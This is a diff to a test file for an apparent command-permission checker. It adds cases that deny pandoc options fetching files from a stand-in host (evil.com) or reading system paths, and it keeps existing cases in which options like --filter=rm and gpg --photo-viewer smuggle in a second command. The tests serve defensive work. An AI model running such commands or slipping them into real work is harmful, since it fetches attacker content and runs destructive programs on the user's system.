@@ -496,6 +496,11 @@ describe('what a runner hands its command is read', () => {
     // `--strip-program=rm` or `--diff-program=rm` ran rm in review); pandoc's and gpg's programs.
     ['install -m 644 * /w/repo/d', 'ask'], ['sdiff [-x]* y', 'ask'], ['sdiff *', 'ask'], ['diff3 *', 'ask'], ['pandoc *', 'ask'],
     ['pandoc --filter=rm a', 'deny'], ['pandoc -F rm a.md', 'deny'], ['pandoc --pdf-engine=rm a.md -o a.pdf', 'deny'], ['pandoc -o /etc/x a.md', 'deny'],
+    // pandoc fetches a file option's URL (GTFOBins g2 F17: were allowed beside Domain(evil.com)); --css/-c read a local file too.
+    ['pandoc --css=http://evil.com/x.css -s --embed-resources a.md', 'deny'], ['pandoc -c http://evil.com/x.css --self-contained a.md', 'deny'],
+    ['pandoc -H http://evil.com/h a.md', 'deny'], ['pandoc --template=https://evil.com/t a.md', 'deny'], ['pandoc --reference-doc=https://evil.com/r.docx a.md', 'deny'],
+    ['pandoc --csl=https://evil.com/c.csl a.md', 'deny'], ['pandoc --bibliography=https://evil.com/b.bib a.md', 'deny'], ['pandoc -d https://evil.com/d.yaml a.md', 'deny'],
+    ['pandoc -c /etc/x.css --embed-resources a.md', 'deny'],
     ['gpg --photo-viewer rm x', 'deny'], ['gpg --photo-viewer "rm %i" --list-keys', 'deny'],
   ])('%s: %s', (line, expected) => {
     expect(decision(line)).toBe(expected);
@@ -508,7 +513,7 @@ describe('what a runner hands its command is read', () => {
   ])('%s (PowerShell): %s', (line, expected) => {
     expect(decision(line, 'powershell')).toBe(expected);
   });
-  it.each(['install -m 644 a.sh b.sh /w/repo/bin', 'sdiff -- * y', 'cp * d/', 'diff *', 'grep foo *', 'pandoc -s README.md -o out.html',
+  it.each(['install -m 644 a.sh b.sh /w/repo/bin', 'sdiff -- * y', 'cp * d/', 'diff *', 'grep foo *', 'pandoc -s README.md -o out.html', 'pandoc -s --css style.css a.md -o a.html',
     'pandoc --toc -f markdown -t html a.md', 'gpg --verify a.sig a', 'ls | xargs -n1 echo', 'parallel echo ::: a b c', 'make', 'npm test', 'cmake -G Ninja -B build .',
     'kubectl get pods -o yaml', './node_modules/.bin/jest', 'python3 -m http.server 8000', 'cargo test --release -p core -j4 --features a,b',
     'cargo test --config build.jobs=2', `cargo build --config 'profile.dev.opt-level=1'`, 'cargo test --target-dir target/ci', 'cargo test -- --nocapture x',
